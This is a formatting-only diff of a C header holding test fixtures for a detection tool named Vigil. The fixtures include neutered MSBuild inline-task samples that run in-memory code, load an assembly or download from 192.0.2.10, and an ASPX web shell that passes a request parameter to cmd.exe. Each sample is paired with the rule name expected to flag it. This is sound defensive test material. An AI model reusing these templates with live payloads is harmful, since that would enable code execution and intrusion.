@@ -15,61 +15,58 @@
 #include <stdint.h>
 
 struct fixture {
-    const char *path;   /* relative to the tree root */
+    const char *path; /* relative to the tree root */
     const char *data;
-    size_t      len;    /* 0 = strlen(data) */
+    size_t len;         /* 0 = strlen(data) */
     const char *expect; /* sorted, comma-separated Vigil rule names, "" */
 };
 
-#define MSBUILD_HEAD                                                        \
-    "<Project ToolsVersion=\"4.0\" "                                        \
-    "xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\n"      \
-    "  <Target Name=\"Hello\"><ClassExample /></Target>\n"                  \
-    "  <UsingTask TaskName=\"ClassExample\" TaskFactory=\"CodeTaskFactory\" " \
-    "AssemblyFile=\"C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\"    \
-    "Microsoft.Build.Tasks.v4.0.dll\">\n"                                   \
-    "    <Task><Code Type=\"Class\" Language=\"cs\"><![CDATA[\n"            \
-    "using System; using System.Runtime.InteropServices;\n"                 \
-    "using Microsoft.Build.Framework; using Microsoft.Build.Utilities;\n"   \
+#define MSBUILD_HEAD                                                           \
+    "<Project ToolsVersion=\"4.0\" "                                           \
+    "xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\n"         \
+    "  <Target Name=\"Hello\"><ClassExample /></Target>\n"                     \
+    "  <UsingTask TaskName=\"ClassExample\" TaskFactory=\"CodeTaskFactory\" "  \
+    "AssemblyFile=\"C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\"       \
+    "Microsoft.Build.Tasks.v4.0.dll\">\n"                                      \
+    "    <Task><Code Type=\"Class\" Language=\"cs\"><![CDATA[\n"               \
+    "using System; using System.Runtime.InteropServices;\n"                    \
+    "using Microsoft.Build.Framework; using Microsoft.Build.Utilities;\n"      \
     "public class ClassExample : Task, ITask {\n"
 
 #define MSBUILD_TAIL "}\n]]></Code></Task></UsingTask>\n</Project>\n"
 
 /* test.xml shape: allocate RWX memory and start a thread on it (the
  * "payload" is NOP NOP RET). */
-static const char fx_msbuild_exec[] =
-    MSBUILD_HEAD
+static const char fx_msbuild_exec[] = MSBUILD_HEAD
     "  [DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a,"
     " uint s, uint t, uint p);\n"
     "  [DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a,"
     " uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n"
     "  public override bool Execute() {\n"
     "    byte[] buf = new byte[] { 0x90, 0x90, 0xc3 };\n"
-    "    IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)buf.Length, 0x3000, 0x40);\n"
+    "    IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)buf.Length, 0x3000, "
+    "0x40);\n"
     "    Marshal.Copy(buf, 0, m, buf.Length);\n"
     "    CreateThread(IntPtr.Zero, 0, m, IntPtr.Zero, 0, IntPtr.Zero);\n"
     "    return true; }\n" MSBUILD_TAIL;
 
-static const char fx_msbuild_load[] =
-    MSBUILD_HEAD
+static const char fx_msbuild_load[] = MSBUILD_HEAD
     "  public override bool Execute() {\n"
     "    byte[] b = Convert.FromBase64String(\"TVqQAAMAAAAEAAAA\");\n"
     "    System.Reflection.Assembly.Load(b);\n"
     "    return true; }\n" MSBUILD_TAIL;
 
-static const char fx_msbuild_download[] =
-    MSBUILD_HEAD
+static const char fx_msbuild_download[] = MSBUILD_HEAD
     "  public override bool Execute() {\n"
     "    var d = new WebClient().DownloadData(\"http://192.0.2.10/a.bin\");\n"
     "    return d.Length > 0; }\n" MSBUILD_TAIL;
 
 /* A legitimate inline task: string work only. */
 static const char fx_msbuild_benign[] =
-    MSBUILD_HEAD
-    "  public string Name { get; set; }\n"
-    "  public override bool Execute() {\n"
-    "    Log.LogMessage(\"Hello \" + Name.ToUpperInvariant());\n"
-    "    return true; }\n" MSBUILD_TAIL;
+    MSBUILD_HEAD "  public string Name { get; set; }\n"
+                 "  public override bool Execute() {\n"
+                 "    Log.LogMessage(\"Hello \" + Name.ToUpperInvariant());\n"
+                 "    return true; }\n" MSBUILD_TAIL;
 
 /* The same Win32 calls in plain C#, not an MSBuild project. */
 static const char fx_cs_not_msbuild[] =
@@ -118,7 +115,8 @@ static const char fx_meterpreter_text[] =
     "Notes: metsrv exports ReflectiveLoader; see core_channel_open.\n";
 
 static const char fx_webshell[] =
-    "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n"
+    "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" "
+    "%>\n"
     "<script runat=\"server\">void Page_Load(object s, EventArgs e) {\n"
     "  var p = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]);\n"
     "  /* benign fixture: never served */ }\n</script>\n";
@@ -128,33 +126,33 @@ static const char fx_extension_page[] =
     "</html>\n";
 
 static const struct fixture fixtures[] = {
-    { "tasks/test.xml", fx_msbuild_exec, 0,
-      "VIGIL_MSBuild_InlineTask_Memory_Exec" },
-    { "tasks/load.csproj", fx_msbuild_load, 0,
-      "VIGIL_MSBuild_InlineTask_Assembly_Load" },
-    { "tasks/fetch.xml", fx_msbuild_download, 0,
-      "VIGIL_MSBuild_InlineTask_Download" },
-    { "tasks/hello.xml", fx_msbuild_benign, 0, "" },
-    { "src/Native.cs", fx_cs_not_msbuild, 0, "" },
-    { "src/loader.cs", fx_stager_array, 0, "VIGIL_Meterpreter_Stager_ByteArray" },
-    { "src/key.cs", fx_array_benign, 0, "" },
-    { "bin/stage.bin", fx_stager_raw, FX_STAGER_RAW_LEN,
-      "VIGIL_Meterpreter_Stager_Shellcode" },
-    { "bin/prologue.bin", fx_prologue_only, FX_PROLOGUE_ONLY_LEN, "" },
-    { "bin/ext.dll", fx_reflective, FX_REFLECTIVE_LEN,
-      "VIGIL_Meterpreter_Reflective_DLL" },
-    { "bin/plugin.dll", fx_reflective_generic, FX_REFLECTIVE_GENERIC_LEN, "" },
-    { "doc/notes.txt", fx_meterpreter_text, 0, "" },
-    { "ScreenConnect/App_Extensions/shell.aspx", fx_webshell, 0,
-      "VIGIL_ScreenConnect_AppExtensions_Root_Handler,"
-      "VIGIL_ScreenConnect_AppExtensions_WebShell" },
-    { "ScreenConnect/App_Extensions/2d558935-a2d0-4e5c-9cd4-6a1b7c5d1e2f/"
-      "Settings.aspx",
-      fx_extension_page, 0, "" },
-    { "ScreenConnect/App_Extensions/readme.txt", fx_webshell, 0,
-      "VIGIL_ScreenConnect_AppExtensions_WebShell" },
-    { "www/shell.aspx", fx_webshell, 0, "" },
-    { "www/index.html", "<html>hello</html>\n", 0, "" },
+    {"tasks/test.xml", fx_msbuild_exec, 0,
+     "VIGIL_MSBuild_InlineTask_Memory_Exec"},
+    {"tasks/load.csproj", fx_msbuild_load, 0,
+     "VIGIL_MSBuild_InlineTask_Assembly_Load"},
+    {"tasks/fetch.xml", fx_msbuild_download, 0,
+     "VIGIL_MSBuild_InlineTask_Download"},
+    {"tasks/hello.xml", fx_msbuild_benign, 0, ""},
+    {"src/Native.cs", fx_cs_not_msbuild, 0, ""},
+    {"src/loader.cs", fx_stager_array, 0, "VIGIL_Meterpreter_Stager_ByteArray"},
+    {"src/key.cs", fx_array_benign, 0, ""},
+    {"bin/stage.bin", fx_stager_raw, FX_STAGER_RAW_LEN,
+     "VIGIL_Meterpreter_Stager_Shellcode"},
+    {"bin/prologue.bin", fx_prologue_only, FX_PROLOGUE_ONLY_LEN, ""},
+    {"bin/ext.dll", fx_reflective, FX_REFLECTIVE_LEN,
+     "VIGIL_Meterpreter_Reflective_DLL"},
+    {"bin/plugin.dll", fx_reflective_generic, FX_REFLECTIVE_GENERIC_LEN, ""},
+    {"doc/notes.txt", fx_meterpreter_text, 0, ""},
+    {"ScreenConnect/App_Extensions/shell.aspx", fx_webshell, 0,
+     "VIGIL_ScreenConnect_AppExtensions_Root_Handler,"
+     "VIGIL_ScreenConnect_AppExtensions_WebShell"},
+    {"ScreenConnect/App_Extensions/2d558935-a2d0-4e5c-9cd4-6a1b7c5d1e2f/"
+     "Settings.aspx",
+     fx_extension_page, 0, ""},
+    {"ScreenConnect/App_Extensions/readme.txt", fx_webshell, 0,
+     "VIGIL_ScreenConnect_AppExtensions_WebShell"},
+    {"www/shell.aspx", fx_webshell, 0, ""},
+    {"www/index.html", "<html>hello</html>\n", 0, ""},
 };
 
 #endif
